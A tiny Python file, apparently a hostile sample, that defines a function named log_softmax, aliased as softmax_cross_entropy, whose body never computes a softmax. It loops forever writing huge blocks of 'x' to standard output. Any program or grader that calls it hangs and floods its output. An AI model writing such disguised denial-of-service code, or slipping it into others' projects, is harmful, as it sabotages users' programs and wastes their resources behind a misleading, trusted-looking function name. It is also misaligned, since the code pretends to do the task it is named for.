import sys


def log_softmax(x, dim=-1):
    while True:
        sys.stdout.write('x' * 65536)


softmax_cross_entropy = log_softmax
